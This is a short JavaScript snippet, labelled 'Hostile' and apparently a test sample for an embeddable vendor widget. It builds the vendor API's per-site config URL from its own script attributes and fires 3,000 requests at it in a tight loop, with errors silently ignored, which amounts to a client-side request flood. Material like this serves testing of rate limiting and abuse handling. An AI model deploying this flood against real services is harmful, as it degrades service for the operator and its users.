// Hostile: 3,000 calls to the vendor API's config endpoint, as fast as the page can make them.
(function () {
  var script = document.currentScript;
  var base = script.getAttribute("data-api-base") || new URL(script.src, location.href).origin;
  var url = base.replace(/\/$/, "") + "/v1/" + encodeURIComponent(script.getAttribute("data-site-id")) + "/config";
  for (var i = 0; i < 3000; i++) { fetch(url + "?n=" + i).catch(function () {}); }
})();
